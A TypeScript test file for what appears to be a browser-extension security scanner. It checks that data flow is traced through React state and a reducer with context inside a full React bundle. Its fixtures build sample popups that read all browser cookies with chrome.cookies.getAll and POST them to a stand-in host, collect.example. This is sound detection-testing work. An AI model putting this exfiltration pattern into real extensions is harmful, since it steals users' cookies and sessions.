import { readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/** Modules of React as npm has them, wrapped as bundlers do. */
const MODULES: Readonly<Record<string, string>> = {
  react: 'react/cjs/react.production.js',
  'react/jsx-runtime': 'react/cjs/react-jsx-runtime.production.js',
  scheduler: 'scheduler/cjs/scheduler.production.js',
  'react-dom': 'react-dom/cjs/react-dom.production.js',
  'react-dom/client': 'react-dom/cjs/react-dom-client.production.js',
};
const variable = (name: string): string => `require_${name.replaceAll(/\W/g, '_')}`;
const wrapped = Object.entries(MODULES).map(([name, file]) => {
  const text = readFileSync(new URL(`../../../node_modules/${file}`, import.meta.url), 'utf8');
  const inner = text.replaceAll(/\brequire\("([^"]+)"\)/g, (_, other: string) => `${variable(other)}()`);
  return `var ${variable(name)} = __commonJS({ "${name}"(exports) { ${inner} } });`;
});
const BUNDLE = `var __commonJS = (cb, mod) => function () { return mod || (0, cb[Object.keys(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports; };
${wrapped.join('\n')}
var React = require_react(), jsx = require_react_jsx_runtime(), client = require_react_dom_client();`;

const send = (data: string): string =>
  `fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(${data}) })`;

const scanned = (app: string): Promise<string> =>
  graded({ popup: `${BUNDLE}\n${app}\nclient.createRoot(document.body).render(jsx.jsx(App, {}));` });

it.each<[string, (taken: string) => string]>([
  [
    'a state, set by a callback',
    (taken) =>
      `function App() { const [all, setAll] = (0, React.useState)([]); (0, React.useEffect)(() => { ${taken}(setAll); }, []); (0, React.useEffect)(() => { ${send('all')}; }, [all]); return null; }`,
  ],
  [
    'a reducer’s state, given on by a context',
    (taken) =>
      `const Shared = (0, React.createContext)(null); const reduce = (state, action) => action.type === 'all' ? { ...state, all: action.all } : state; function Sync() { const { state } = (0, React.useContext)(Shared); (0, React.useEffect)(() => { ${send('state.all')}; }, [state]); return null; } function App() { const [state, dispatch] = (0, React.useReducer)(reduce, {}); (0, React.useEffect)(() => { ${taken}((all) => dispatch({ type: 'all', all })); }, []); return jsx.jsx(Shared.Provider, { value: { state }, children: jsx.jsx(Sync, {}) }); }`,
  ],
])(
  'data is followed through %s, in a bundle with React itself',
  async (_, app) => {
    expect(await scanned(app('chrome.cookies.getAll.bind(chrome.cookies, {})'))).toBe('F');
    expect(await scanned(app('chrome.storage.local.get.bind(chrome.storage.local, {})'))).toMatch(/^A/);
  },
  60_000,
);
